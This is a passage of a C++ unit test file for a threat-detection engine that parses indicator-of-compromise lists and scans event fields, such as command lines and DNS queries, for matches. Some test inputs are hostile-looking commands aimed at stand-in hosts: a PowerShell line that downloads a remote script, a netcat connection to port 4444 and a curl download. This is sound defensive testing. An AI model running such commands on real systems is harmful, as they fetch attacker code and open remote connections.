#include "detect/indicator/indicator.h"

#include <string>
#include <string_view>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "detect/indicator/diagnostics.h"
#include "tests/support/memory_files.h"

namespace longwatch::detect::indicator {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;

struct Parsed {
  LoadedIndicators loaded;
  std::vector<Diagnostic> diagnostics;

  /// "kind:value" of every indicator.
  std::vector<std::string> keys() const {
    std::vector<std::string> list;
    for (const Indicator& indicator : loaded.indicators) {
      list.push_back(std::string(to_text(indicator.kind)) + ":" + indicator.value);
    }
    return list;
  }

  /// Without those about ranges for documentation, from which tests take their addresses.
  std::vector<std::string> messages() const {
    std::vector<std::string> list;
    for (const Diagnostic& diagnostic : diagnostics) {
      if (diagnostic.kind == &kCommonIndicator) {
        continue;
      }
      list.push_back(diagnostic.place.to_text() + " " + std::string(diagnostic.kind->id) + " " +
                     diagnostic.message);
    }
    return list;
  }
};

Parsed parse(std::string_view text) {
  DiagnosticCollector diagnostics;
  Parsed parsed;
  parsed.loaded = parse_indicators(text, "list.txt", diagnostics);
  parsed.diagnostics = diagnostics.diagnostics();
  return parsed;
}

TEST(IndicatorList, recognises_every_kind) {
  struct Case {
    std::string_view line;
    std::string_view key;
  };

  const std::vector<Case> cases = {
      {"198.51.100.23", "ipv4:198.51.100.23"},
      {"2001:DB8::0001", "ipv6:2001:db8::1"},
      {"[2001:db8::2]", "ipv6:2001:db8::2"},
      {"::ffff:198.51.100.7", "ipv4:198.51.100.7"},
      {"203.0.113.77/26", "cidr:203.0.113.64/26"},
      {"203.0.113.77/32", "ipv4:203.0.113.77"},
      {"2001:db8::/32", "cidr:2001:db8::/32"},
      {"Evil.Example.", "domain:evil.example"},
      {"*.evil.example", "domain:evil.example"},
      {"xn--bcher-kva.example", "domain:xn--bcher-kva.example"},
      {"B\xC3\xBC"
       "cher[.]example",
       "domain:xn--bcher-kva.example"},
      {"_dmarc.a-b.example", "domain:_dmarc.a-b.example"},
      {"HTTP://Evil.Example:80", "url:http://evil.example/"},
      {"https://evil.example:8443/A?b=c#d", "url:https://evil.example:8443/A?b=c"},
      {"http://198.51.100.23/x.php?q=1,2", "url:http://198.51.100.23/x.php?q=1,2"},
      {"http://[2001:db8::1]:8080/", "url:http://[2001:db8::1]:8080/"},
      {"0CC175B9C0F1B6A831C399E269772661", "md5:0cc175b9c0f1b6a831c399e269772661"},
      {"86f7e437faa5a7fce15d1ddcb9eaeaea377667b8", "sha1:86f7e437faa5a7fce15d1ddcb9eaeaea377667b8"},
      {"ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
       "sha256:ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"},
      {"Someone@Evil.Example", "mail:someone@evil.example"},
      {"Dropper.EXE", "file:dropper.exe"},
      {"my dropper.dll", "file:my dropper.dll"},
      {"evil.sh", "domain:evil.sh"},
      {"file:evil.sh", "file:evil.sh"},
      {"domain:dropper.exe", "domain:dropper.exe"},
      {"ip: 198.51.100.23", "ipv4:198.51.100.23"},
      {"IPv6:2001:db8::1", "ipv6:2001:db8::1"},
      {"md5:0cc175b9c0f1b6a831c399e269772661", "md5:0cc175b9c0f1b6a831c399e269772661"},
      {"email:a.b+c@evil.example", "mail:a.b+c@evil.example"},
      {"url:hxxp://evil.example/a", "url:http://evil.example/a"},
  };
  for (const Case& c : cases) {
    const Parsed parsed = parse(c.line);
    EXPECT_THAT(parsed.keys(), ElementsAre(c.key)) << c.line;
    EXPECT_THAT(parsed.messages(), IsEmpty()) << c.line;
  }
}

TEST(IndicatorList, accepts_defanged_texts) {
  for (const std::string_view line :
       {"hxxps://evil[.]example/a", "HXXPS[://]evil[.]example/a", "hxxps[:]//evil(.)example/a",
        "h**ps://evil[dot]example/a", "https://evil{.}example/a", "hxxps://evil\\.example/a"}) {
    EXPECT_THAT(parse(line).keys(), ElementsAre("url:https://evil.example/a")) << line;
  }
  EXPECT_THAT(
      parse("198[.]51[.]100[.]23\nsomeone[at]evil[.]example\n2001:db8[:]:1\nevil(dot)example")
          .keys(),
      ElementsAre("ipv4:198.51.100.23", "mail:someone@evil.example", "ipv6:2001:db8::1",
                  "domain:evil.example"));
}

TEST(IndicatorList, comments_notes_and_blank_lines) {
  const Parsed parsed = parse(
      "\xEF\xBB\xBF# a list\r\n\r\n  evil.example , seen in June, twice\r\n"
      "203.0.113.9\tcommand and control # not part of it\n"
      "http://evil.example/a,b\thas a comma\n\"http://evil.example/c\", \"quoted\"\n"
      "http://evil.example/#fragment\nhttp://evil.example/d, note\n   # indented\n");
  EXPECT_THAT(parsed.keys(), ElementsAre("domain:evil.example", "ipv4:203.0.113.9",
                                         "url:http://evil.example/a,b", "url:http://evil.example/c",
                                         "url:http://evil.example/", "url:http://evil.example/d"));
  std::vector<std::string> notes;
  for (const Indicator& indicator : parsed.loaded.indicators) {
    notes.push_back(indicator.note);
  }
  EXPECT_THAT(notes, ElementsAre("seen in June, twice", "command and control", "has a comma",
                                 "quoted", "", "note"));
  EXPECT_EQ(parsed.loaded.indicators[1].line, 4U);
  EXPECT_THAT(parsed.messages(), IsEmpty());
}

TEST(IndicatorList, says_where_and_why_a_line_is_no_indicator) {
  const Parsed parsed = parse(
      "localhost\n   what is this\nb\xC3("
      "cher.example\nmd5:abc\n"
      "0cc175b9c0f1b6a831c399e2697726\nsha1:0cc175b9c0f1b6a831c399e269772661\n"
      "300.1.1.1\nhttp://\n,note only\n1.2.3\n");
  EXPECT_THAT(
      parsed.messages(),
      ElementsAre(
          "list.txt:1:1 indicator-unknown 'localhost': expected an address, domain, URL, digest, "
          "mail address or file name, got one word; entry skipped",
          "list.txt:2:4 indicator-unknown 'what is this': expected an address, domain, URL, "
          "digest, "
          "mail address or file name; entry skipped",
          testing::HasSubstr("expected an address, domain, URL"),
          "list.txt:4:1 indicator-unknown 'md5:abc': expected 32 hex digits; entry skipped",
          testing::HasSubstr("expected 32, 40 or 64 hex digits, got 30"),
          testing::HasSubstr("expected 40 hex digits"), testing::HasSubstr("'300.1.1.1'"),
          testing::HasSubstr("'http://'"), testing::HasSubstr("list.txt:9:1"),
          testing::HasSubstr("'1.2.3'")));
  EXPECT_EQ(parsed.loaded.refused, 10U);
  EXPECT_THAT(parsed.keys(), IsEmpty());
}

TEST(IndicatorList, refuses_what_would_match_everywhere) {
  for (const std::string_view line :
       {"0.0.0.0/0", "127.0.0.1", "169.254.1.1", "224.0.0.251", "255.255.255.255", "198.0.0.0/7",
        "0.0.0.0", "::/0", "::1", "::", "fe80::1", "ff02::1", "2000::/3", "::ffff:127.0.0.1",
        "co.uk", "*.com.au", "path:*.*", "registry:HKLM\\Software"}) {
    const Parsed parsed = parse(line);
    EXPECT_THAT(parsed.keys(), IsEmpty()) << line;
    ASSERT_EQ(parsed.diagnostics.size(), 1U) << line;
    EXPECT_EQ(parsed.diagnostics[0].kind, &kBroadIndicator) << line;
  }
}

TEST(IndicatorList, keeps_and_warns_of_what_is_common) {
  struct Case {
    std::string_view line;
    bool is_common;
  };

  for (const Case& c : std::vector<Case>{{"10.1.2.3", true},
                                         {"192.168.0.0/16", true},
                                         {"172.16.5.5", true},
                                         {"100.64.0.1", true},
                                         {"fd00::1", true},
                                         {"::ffff:10.0.0.1", true},
                                         {"8.8.8.8", true},
                                         {"2001:4860:4860::8888", true},
                                         {"google.com", true},
                                         {"d41d8cd98f00b204e9800998ecf8427e", true},
                                         {"da39a3ee5e6b4b0d3255bfef95601890afd80709", true},
                                         {"198.51.100.23", false},
                                         {"192.0.2.0/24", false},
                                         {"2001:db8::1", false},
                                         {"198.18.0.1", false},
                                         {"240.0.0.1", false}}) {
    const Parsed parsed = parse(c.line);
    ASSERT_EQ(parsed.loaded.indicators.size(), 1U) << c.line;
    EXPECT_EQ(parsed.loaded.indicators[0].is_common, c.is_common) << c.line;
    ASSERT_EQ(parsed.diagnostics.size(), 1U) << c.line;
    EXPECT_EQ(parsed.diagnostics[0].kind, &kCommonIndicator) << c.line;
  }
}

TEST(IndicatorList, duplicates_of_a_file_are_taken_out_and_those_of_others_stay_in_effect) {
  DiagnosticCollector diagnostics;
  test_support::MemoryFiles files;
  files.add_file("/a.txt", "# first\nevil.example\nEvil.example\n");
  files.add_file("/b.txt", "EVIL[.]example\nhttp://evil.example/\n");
  model::FieldTable fields;
  LoadOptions options;
  options.paths = {"/a.txt", "/b.txt"};
  const auto loaded = load_indicators(options, files, fields, diagnostics);
  ASSERT_TRUE(loaded.ok());
  const LoadBooks& books = books_of(**loaded);
  EXPECT_EQ(books.seen, 4U);
  EXPECT_EQ(books.indicators, 3U);
  EXPECT_EQ(books.duplicates, 1U);
  EXPECT_EQ(books.refused, 0U);
  ASSERT_EQ(diagnostics.count(), 2U);
  EXPECT_EQ(diagnostics.diagnostics()[0].message, "'evil.example' stands already in /a.txt:2");
  EXPECT_EQ(diagnostics.diagnostics()[0].place.to_text(), "/a.txt:3");
  EXPECT_EQ(diagnostics.diagnostics()[1].message, "'evil.example' stands also in /a.txt:2");
  EXPECT_EQ(diagnostics.diagnostics()[1].place.to_text(), "/b.txt:1");
  options.paths = {"/absent"};
  EXPECT_EQ(load_indicators(options, files, fields, diagnostics).error().code(),
            ErrorCode::NotFound);
}

/// Findings as text: "matched @ field=..., entity".
class FindingTexts final : public model::FindingSink {
 public:
  void accept(model::Finding finding) override {
    findings.push_back(finding.matched);
    full.push_back(std::move(finding));
  }

  std::vector<std::string> findings;
  std::vector<model::Finding> full;
};

/// A list ready to scan single events.
class Scanner {
 public:
  explicit Scanner(std::string_view list)
      : fields_(std::make_shared<model::FieldTable>()),
        set_(load_text(list, "list.txt", *fields_, diagnostics_).value()),
        detector_(make_detector(set_, fields_)),
        state_(detector_->make_state()) {}

  /// What is found in an event with these fields.
  std::vector<std::string> scan(
      const std::vector<std::pair<std::string_view, std::string_view>>& values) {
    model::EventBatch batch;
    std::vector<model::FieldValue> list;
    for (const auto& [name, text] : values) {
      const model::NamedField field =
          fields_->find(name).value_or(model::NamedField{model::kUnnamedField});
      list.push_back({model::text_value(text), field.field, field.naming});
    }
    model::Event event;
    event.locator.record = 7;
    event.values = batch.keep(list, *fields_);
    batch.add(event);
    FindingTexts sink;
    detector_->scan(batch, *state_, sink);
    last = std::move(sink.full);
    return sink.findings;
  }

  const model::FieldTable& fields() const { return *fields_; }

  std::vector<model::Finding> last;

 private:
  DiagnosticCollector diagnostics_;
  std::shared_ptr<model::FieldTable> fields_;
  std::shared_ptr<const IndicatorSet> set_;
  std::unique_ptr<Detector> detector_;
  std::unique_ptr<DetectorState> state_;
};

TEST(IndicatorScan, addresses_match_as_addresses) {
  Scanner scanner("198.51.100.23\n2001:db8::1\n203.0.113.0/24\n203.0.113.64/26\n2001:db8:1::/48\n");
  EXPECT_THAT(scanner.scan({{"DestinationIp", "198.51.100.23"}}), ElementsAre("198.51.100.23"));
  EXPECT_THAT(scanner.scan({{"IpAddress", "::ffff:198.51.100.23"}}), ElementsAre("198.51.100.23"));
  EXPECT_THAT(scanner.scan({{"SourceIp", "2001:0DB8:0:0::0001"}}), ElementsAre("2001:db8::1"));
  EXPECT_THAT(scanner.scan({{"SourceIp", "fe80::1%eth0"}}), IsEmpty());
  EXPECT_THAT(scanner.scan({{"ClientAddress", "[2001:db8::1]:443"}}), ElementsAre("2001:db8::1"));
  EXPECT_THAT(scanner.scan({{"ClientAddress", "198.51.100.23:443"}}), ElementsAre("198.51.100.23"));
  EXPECT_THAT(scanner.scan({{"DestAddress", "203.0.113.63"}}), ElementsAre("203.0.113.0/24"));
  EXPECT_THAT(scanner.scan({{"DestAddress", "203.0.113.64"}}),
              ElementsAre("203.0.113.0/24", "203.0.113.64/26"));
  EXPECT_THAT(scanner.scan({{"DestAddress", "203.0.113.128"}}), ElementsAre("203.0.113.0/24"));
  EXPECT_THAT(scanner.scan({{"DestAddress", "203.0.114.0"}}), IsEmpty());
  EXPECT_THAT(scanner.scan({{"DestAddress", "203.0.112.255"}}), IsEmpty());
  EXPECT_THAT(scanner.scan({{"src_ip", "2001:db8:1:ffff::1"}}), ElementsAre("2001:db8:1::/48"));
  for (const std::string_view text :
       {"", "-", "198.51.100.2", "198.51.100.230", "x", ":", "[", "::"}) {
    EXPECT_THAT(scanner.scan({{"DestinationIp", text}}), IsEmpty()) << text;
  }
}

TEST(IndicatorScan, domains_match_themselves_and_what_is_below) {
  Scanner scanner("evil.example\nsub.other.example\n198.51.100.23\n");
  for (const std::string_view host :
       {"evil.example", "EVIL.Example.", "a.b.evil.example", "evil.example:443"}) {
    EXPECT_THAT(scanner.scan({{"QueryName", host}}), ElementsAre("evil.example")) << host;
  }
  for (const std::string_view host : {"notevil.example", "evil.example.org", "example",
                                      "other.example", "evil", "", ".", "evil.example.."}) {
    EXPECT_THAT(scanner.scan({{"DestinationHostname", host}}), IsEmpty()) << host;
  }
  EXPECT_THAT(scanner.scan({{"cs-host", "198.51.100.23"}}), ElementsAre("198.51.100.23"));
  EXPECT_THAT(scanner.scan({{"Url", "https://user@www.evil.example:8443/x?y"}}),
              ElementsAre("evil.example"));
}

TEST(IndicatorScan, urls_match_as_a_whole) {
  Scanner scanner("http://evil.example/a?b=1\nhttps://host.example:8443/\n");
  EXPECT_THAT(scanner.scan({{"Url", "HTTP://EVIL.example:80/a?b=1#top"}}),
              ElementsAre("http://evil.example/a?b=1"));
  EXPECT_THAT(scanner.scan({{"c-uri", "evil.example/a?b=1"}}),
              ElementsAre("http://evil.example/a?b=1"));
  EXPECT_THAT(scanner.scan({{"c-uri", "host.example:8443"}}),
              ElementsAre("https://host.example:8443/"));
  EXPECT_THAT(scanner.scan({{"CommandLine", "curl -o x 'http://evil.example/a?b=1'; ls"}}),
              ElementsAre("http://evil.example/a?b=1"));
  EXPECT_THAT(scanner.scan({{"CommandLine", "see (http://evil.example/a?b=1)."}}),
              ElementsAre("http://evil.example/a?b=1"));
  for (const std::string_view url : {"http://evil.example/a?b=2", "http://evil.example/A?b=1",
                                     "https://evil.example/a?b=1", "http://evil.example/", "://"}) {
    EXPECT_THAT(scanner.scan({{"Url", url}, {"CommandLine", url}}), IsEmpty()) << url;
  }
}

TEST(IndicatorScan, what_ends_a_sentence_behind_a_url_without_a_path_is_no_part_of_it) {
  Scanner scanner("http://b.example/\n");
  for (const std::string_view text : {"see http://b.example, then", "(http://b.example).",
                                      "[http://b.example]", "http://b.example;"}) {
    EXPECT_THAT(scanner.scan({{"CommandLine", text}}), ElementsAre("http://b.example/")) << text;
  }
}

TEST(IndicatorScan, digests_files_and_mail_addresses) {
  Scanner scanner(
      "0cc175b9c0f1b6a831c399e269772661\n"
      "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb\nevil "
      "tool.exe\nx@evil.example\n");
  EXPECT_THAT(scanner.scan({{"Hashes",
                             "MD5=0CC175B9C0F1B6A831C399E269772661,SHA256=CA978112CA1BBDCAFAC231B39"
                             "A23DC4DA786EFF8147C4E72B9807785AFEE48BB,IMPHASH=00"}}),
              ElementsAre("0cc175b9c0f1b6a831c399e269772661",
                          "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"));
  EXPECT_THAT(scanner.scan({{"md5", "0cc175b9c0f1b6a831c399e269772661"}}),
              ElementsAre("0cc175b9c0f1b6a831c399e269772661"));
  for (const std::string_view path : {"C:\\Temp\\Evil Tool.exe", "evil tool.exe",
                                      "/tmp/evil tool.exe", "\"C:\\Temp\\evil tool.exe\""}) {
    EXPECT_THAT(scanner.scan({{"Image", path}}), ElementsAre("evil tool.exe")) << path;
  }
  EXPECT_THAT(scanner.scan({{"Image", "C:\\notevil tool.exe"}, {"TargetFilename", "tool.exe"}}),
              IsEmpty());
  EXPECT_THAT(scanner.scan({{"Recipients", "A <a@b.example>; \"X\" <X@Evil.example>"}}),
              ElementsAre("x@evil.example"));
}

TEST(IndicatorScan, senders_and_recipients_match_by_address_and_by_domain) {
  Scanner scanner("evil.example\nx@other.example\n");
  EXPECT_THAT(scanner.scan({{"from", "Lena <lena@news.evil.example>"}}),
              ElementsAre("evil.example"));
  EXPECT_EQ(scanner.last[0].entities.back(),
            (model::Entity{"domain", "news.evil.example", "indicator"}));
  EXPECT_THAT(scanner.scan({{"to", "X@Other.example"}}), ElementsAre("x@other.example"));
  EXPECT_THAT(scanner.scan({{"from", "a@notevil.example"}, {"to", "y@other.example"}}), IsEmpty());
  EXPECT_THAT(scanner.scan({{"from", "evil.example"}, {"to", "@"}}), IsEmpty());
}

TEST(IndicatorScan, telemetry_of_networks_and_of_defender_is_searched) {
  Scanner scanner(
      "198.51.100.23\nevil.example\ndropper.exe\n"
      "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb\n");
  for (const std::string_view field : {"c-ip", "s-ip", "id.orig_h", "id.resp_h", "src", "dst"}) {
    EXPECT_THAT(scanner.scan({{field, "198.51.100.23"}}), ElementsAre("198.51.100.23")) << field;
  }
  for (const std::string_view field : {"server_name", "cs-host", "query"}) {
    EXPECT_THAT(scanner.scan({{field, "a.evil.example"}}), ElementsAre("evil.example")) << field;
  }
  EXPECT_THAT(scanner.scan({{"c-uri", "https://a.evil.example/p.gif"}}),
              ElementsAre("evil.example"));
  EXPECT_THAT(scanner.scan({{"c-uri", "/evil.example"}}), IsEmpty());
  EXPECT_THAT(scanner.scan({{"FolderPath", "C:\\x\\dropper.exe"}}), ElementsAre("dropper.exe"));
  EXPECT_THAT(scanner.scan(
                  {{"SHA256", "CA978112CA1BBDCAFAC231B39A23DC4DA786EFF8147C4E72B9807785AFEE48BB"}}),
              ElementsAre("ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"));
}

TEST(IndicatorOrigin, findings_carry_who_shared_a_list_how_far_it_goes_and_when_it_came) {
  Scanner scanner(
      "# a list of a partner\n# Originator: BRAVO, ALPHA\n#marking: tlp:amber+strict\n"
      "# received: 2025-08-15T09:00:00+12:00\n# x-synthetic: longwatch-synthetic\nevil.example\n");
  ASSERT_THAT(scanner.scan({{"query", "evil.example"}}), ElementsAre("evil.example"));
  const model::RuleInfo& rule = *scanner.last[0].rule;
  EXPECT_EQ(rule.marking, (model::Marking{model::Tlp::AmberStrict, {"ALPHA", "BRAVO"}}));
  EXPECT_EQ(rule.received, parse_iso8601("2025-08-14T21:00:00Z"));
}

TEST(IndicatorOrigin, a_list_that_says_nothing_is_public_and_always_known) {
  Scanner scanner("# marking of what: nothing\n# see https://evil.example/\nevil.example\n");
  scanner.scan({{"query", "evil.example"}});
  EXPECT_EQ(scanner.last.at(0).rule->marking, (model::Marking{model::Tlp::Clear, {}}));
  EXPECT_EQ(scanner.last.at(0).rule->received, std::nullopt);
}

TEST(IndicatorOrigin, an_originator_alone_is_marked_as_strictly_as_own_telemetry) {
  EXPECT_EQ(parse("# originator: ALPHA\n").loaded.origins.at(0).marking,
            (model::Marking{model::Tlp::AmberStrict, {"ALPHA"}}));
}

TEST(IndicatorOrigin, what_cannot_be_read_is_told_and_kept_from_everybody) {
  const Parsed parsed = parse(
      "# marking: TLP:GREN\n# received: yesterday\n# originator: \nevil.example\n"
      "# marking: TLP:CLEAR\n");
  EXPECT_THAT(
      parsed.messages(),
      ElementsAre(
          "list.txt:1:1 indicator-list-origin 'marking: TLP:GREN': expected TLP:CLEAR, "
          "TLP:GREEN, TLP:AMBER, TLP:AMBER+STRICT or TLP:RED; the list is kept as TLP:RED",
          "list.txt:2:1 indicator-list-origin 'received: yesterday': expected a time in ISO "
          "8601 with its zone; the list counts as always known",
          "list.txt:3:1 indicator-list-origin 'originator:': expected names of at most 64 "
          "ASCII characters; the list is kept as TLP:RED",
          "list.txt:5:1 indicator-list-origin 'marking: TLP:CLEAR': stands behind an "
          "indicator, but holds for the whole list; split lists of different origin"));
  EXPECT_EQ(parsed.loaded.origins.at(0).marking, (model::Marking{model::Tlp::Red, {}}));
  EXPECT_EQ(parsed.loaded.refused, 0U);
}

TEST(IndicatorScan, command_lines_are_searched_for_hosts_and_addresses) {
  Scanner scanner("198.51.100.23\nevil.example\n2001:db8::1\n");
  const std::vector<std::pair<std::string_view, std::vector<std::string>>> cases = {
      {"ping 198.51.100.23 -n 1", {"198.51.100.23"}},
      {"nc 198.51.100.23:4444", {"198.51.100.23"}},
      {"net use \\\\a.evil.example\\c$", {"evil.example"}},
      {"powershell (New-Object Net.WebClient).DownloadString('http://www.evil.example/a.ps1')",
       {"evil.example"}},
      {"curl http://[2001:db8::1]:80/", {"2001:db8::1"}},
      {"ssh user@evil.example", {"evil.example"}},
      {"198.51.100.231 1198.51.100.23 evil.example.txt notevil.example", {}},
      {"C:\\evil\\example.exe a.b.c.d.e.f.. ... ::: : . 1.2.3", {}},
  };
  for (const auto& [text, expected] : cases) {
    EXPECT_EQ(scanner.scan({{"CommandLine", text}}), expected) << text;
    EXPECT_EQ(scanner.scan({{"ScriptBlockText", text}}), expected) << text;
  }
}

TEST(IndicatorScan, tokens_in_texts_end_with_sentences_and_hold_letters_of_all_scripts) {
  constexpr std::string_view kDigest = "0cc175b9c0f1b6a831c399e269772661";
  Scanner scanner(
      "198.51.100.23\nevil.example\n2001:db8::1\nhttp://bad.test/a\nfile:\xC3\xA9vil.exe\n" +
      std::string(kDigest));
  const std::string digest(kDigest);
  const std::vector<std::pair<std::string, std::vector<std::string>>> cases = {
      {"to 198.51.100.23. Then", {"198.51.100.23"}},
      {"to 198.51.100.23...", {"198.51.100.23"}},
      {"to 2001:db8::1.", {"2001:db8::1"}},
      {"at 2001:db8::1: refused", {"2001:db8::1"}},
      {"hash " + digest + ". x", {digest}},
      {"hash " + digest + ".", {digest}},
      {digest + ".exe x" + digest + " " + digest + "\xC3\xA9 \xC3\xA9" + digest, {}},
      {"\xC3\xA9"
       "evil.example evil.example\xC3\xA9 evil.example\xCC\x81",
       {}},
      {"curl http://\xC3\xA9"
       "evil.example/",
       {}},
      {"\xC3\xA9.evil.example", {"evil.example"}},
      {"\xC3\xA9_x.evil.example", {"evil.example"}},
      {"\xE2\x80\x9C"
       "evil.example\xE2\x80\x9D",
       {"evil.example"}},
      {"\xE8\xAE\xBF\xE9\x97\xAE"
       "evil.example\xE8\x8E\xB7",
       {"evil.example"}},
      {"run \xC3\xA9vil.exe now", {"\xC3\xA9vil.exe"}},
      // URLs inside of URLs.
      {"http%3A%2F%2Fevil.example%2Fx", {"evil.example"}},
      {"u=http%253a%252f%252fevil%252Eexample", {"evil.example"}},
      {"ip%3D198.51.100.23%26", {"198.51.100.23"}},
      {"md5%3D" + digest + "%0A", {digest}},
      {"go?to=http%3A%2F%2Fbad.test%2Fa x", {"http://bad.test/a"}},
      {"not%65vil.example evil.example%41", {}},
      {"%C3%A9"
       "evil.example evil.example%C3%A9",
       {}},
      {"LIKE '%evil.example%'", {"evil.example"}},
  };
  for (const auto& [text, expected] : cases) {
    EXPECT_EQ(scanner.scan({{"CommandLine", text}}), expected) << text;
    EXPECT_EQ(scanner.scan({{"cs-uri-query", text}}), expected) << text;
  }
  // A wildcard in front of what looks like an escape.
  Scanner names("file:badguy.exe\n2fevil.example\n");
  EXPECT_THAT(names.scan({{"CommandLine", "Name LIKE '%badguy.exe'"}}), ElementsAre("badguy.exe"));
  EXPECT_THAT(names.scan({{"CommandLine", "http%3A%2F%2Fevil.example%2Fx"}}), IsEmpty());
}

TEST(IndicatorScan, accounts_match_with_their_domain_in_another_field) {
  Scanner scanner("account:EVIL\\admin\naccount:eve@evil.corp\naccount:anybody\n");
  using Values = std::vector<std::pair<std::string_view, std::string_view>>;
  const std::vector<std::pair<Values, std::vector<std::string>>> cases = {
      {{{"TargetUserName", "Admin"}, {"TargetDomainName", "EVIL"}}, {"evil\\admin"}},
      {{{"TargetDomainName", "EVIL"}, {"TargetUserName", "admin"}}, {"evil\\admin"}},
      {{{"SubjectUserName", "admin"}, {"SubjectDomainName", "evil"}}, {"evil\\admin"}},
      {{{"AccountName", "admin"}, {"AccountDomain", "EVIL"}}, {"evil\\admin"}},
      {{{"user.name", "admin"}, {"user.domain", "EVIL"}}, {"evil\\admin"}},
      {{{"User", "EVIL\\admin"}}, {"evil\\admin"}},
      // The short name of a domain is the first label of the long one.
      {{{"TargetUserName", "admin"}, {"TargetDomainName", "evil.corp"}}, {"evil\\admin"}},
      {{{"TargetUserName", "admin@evil.corp"}, {"TargetDomainName", "-"}}, {"evil\\admin"}},
      {{{"TargetUserName", "eve"}, {"TargetDomainName", "EVIL.CORP"}}, {"eve@evil.corp"}},
      {{{"TargetUserName", "eve"}, {"TargetDomainName", "EVIL"}}, {"eve@evil.corp"}},
      {{{"User", "EVIL\\eve"}}, {"eve@evil.corp"}},
      {{{"TargetUserName", "eve@EVIL.CORP"}, {"TargetDomainName", "EVIL.CORP"}}, {"eve@evil.corp"}},
      {{{"UserPrincipalName", "eve@evil.corp"}}, {"eve@evil.corp"}},
      {{{"User", "AzureAD\\eve@evil.corp"}}, {"eve@evil.corp"}},
      {{{"TargetUserName", "Anybody"}, {"TargetDomainName", "GOOD"}}, {"anybody"}},
      {{{"User", "GOOD\\anybody"}}, {"anybody"}},
      {{{"User", "anybody@good.corp"}}, {"anybody"}},
      // Others.
      {{{"TargetUserName", "admin"}, {"TargetDomainName", "GOOD"}}, {}},
      {{{"TargetUserName", "admin"}, {"SubjectDomainName", "EVIL"}}, {}},
      {{{"TargetUserName", "admin"}, {"TargetDomainName", "evil2"}}, {}},
      {{{"TargetUserName", "eve"}, {"TargetDomainName", "evil.example"}}, {}},
      {{{"TargetUserName", "admin"}}, {}},
      {{{"TargetUserName", "eve"}, {"TargetDomainName", ""}}, {}},
      {{{"TargetUserName", "x-anybody"}, {"TargetDomainName", "EVIL"}}, {}},
  };
  for (const auto& [values, expected] : cases) {
    EXPECT_EQ(scanner.scan(values), expected) << values.front().second;
  }
  Scanner longer("account:verylongdomainn\\eve\n");
  EXPECT_THAT(
      longer.scan({{"TargetUserName", "eve"}, {"TargetDomainName", "verylongdomainname.corp"}}),
      ElementsAre("verylongdomainn\\eve"));
}

TEST(IndicatorScan, names_of_certificates_are_looked_at_for_domains) {
  Scanner scanner("evil.example\n");
  EXPECT_THAT(scanner.scan({{"san.dns", "www.good.test,a.evil.example"}}),
              ElementsAre("evil.example"));
  EXPECT_THAT(scanner.scan({{"san.dns", "*.evil.example"}}), ElementsAre("evil.example"));
  EXPECT_THAT(scanner.scan({{"certificate.subject", "CN=evil.example,O=Evil"}}),
              ElementsAre("evil.example"));
  EXPECT_THAT(scanner.scan({{"certificate.subject", "CN=notevil.example,O=Evil"}}), IsEmpty());
}

std::string field_of(const model::Finding& finding, std::string_view name) {
  for (const model::NamedText& field : finding.fields) {
    if (field.name == name) {
      return field.value;
    }
  }
  return "(none)";
}

TEST(IndicatorScan, findings_say_who_may_see_them) {
  Scanner marked("# marking: TLP:AMBER\n# originator: ALPHA\nevil.example\n");
  marked.scan({{"QueryName", "evil.example"}});
  EXPECT_EQ(field_of(marked.last.at(0), "indicator.marking"), "TLP:AMBER");
  EXPECT_EQ(field_of(marked.last.at(0), "indicator.originators"), "ALPHA");
  Scanner several(
      "value,type,tlp,originator\nevil.example,domain,green,ALPHA\nevil.example,domain,red,"
      "BRAVO\n");
  several.scan({{"QueryName", "evil.example"}});
  EXPECT_EQ(field_of(several.last.at(0), "indicator.marking"), "TLP:RED");
  EXPECT_EQ(field_of(several.last.at(0), "indicator.originators"), "ALPHA; BRAVO");
  Scanner unmarked("evil.example\n");
  unmarked.scan({{"QueryName", "evil.example"}});
  EXPECT_EQ(field_of(unmarked.last.at(0), "indicator.marking"), "(none)");
}

/// What an indicator list with an allow-list finds in single values, and what it tells at the end.
class AllowedScan {
 public:
  AllowedScan(std::string list, std::string allow) {
    files_.add_file("/list.txt", std::move(list));
    files_.add_file("/allow.txt", std::move(allow));
    const auto set =
        load_indicators({{"/list.txt"}, {"/allow.txt"}, {}, {}}, files_, *fields_, told_);
    detector_ = make_detector(set.value(), fields_);
    DetectorResources resources;
    resources.diagnostics = &told_;
    state_ = detector_->make_state_within(resources);
  }

  std::vector<std::string> scan(std::string_view name, std::string_view text) {
    const model::NamedField field = fields_->find(name).value();
    model::EventBatch batch;
    const std::vector<model::FieldValue> values = {
        {model::text_value(text), field.field, field.naming}};
    model::Event event;
    event.values = batch.keep(values, *fields_);
    batch.add(event);
    FindingTexts sink;
    detector_->scan(batch, *state_, sink);
    return sink.findings;
  }

  std::string finish() {
    FindingTexts sink;
    const auto other = detector_->make_state();
    detector_->combine(*other, *state_);
    detector_->combine(*state_, *other);
    detector_->finish(*state_, sink);
    const std::vector<Diagnostic> all = told_.diagnostics();
    return all.empty() || all.back().kind != &kAllowedSeen ? "" : all.back().message;
  }

 private:
  test_support::MemoryFiles files_;
  DiagnosticCollector told_;
  std::shared_ptr<model::FieldTable> fields_ = std::make_shared<model::FieldTable>();
  std::unique_ptr<Detector> detector_;
  std::unique_ptr<DetectorState> state_;
};

TEST(IndicatorAllowed, what_is_seen_inside_an_indicator_may_be_allowed) {
  AllowedScan scan(
      "45.0.0.0/16\nevil.example\nmail-domain:evil.example\n",
      "\xEF\xBB\xBF# own\n45.0.7.0/24\n45.0.8.9\nown.evil.example\n*.all.evil.example\n");
  EXPECT_THAT(scan.scan("DestinationIp", "45.0.6.1"), ElementsAre("45.0.0.0/16"));
  EXPECT_THAT(scan.scan("DestinationIp", "45.0.7.1"), IsEmpty());
  EXPECT_THAT(scan.scan("CommandLine", "ping 45.0.8.9"), IsEmpty());
  EXPECT_THAT(scan.scan("CommandLine", "ping 45.0.8.9 45.0.8.10"), ElementsAre("45.0.0.0/16"));
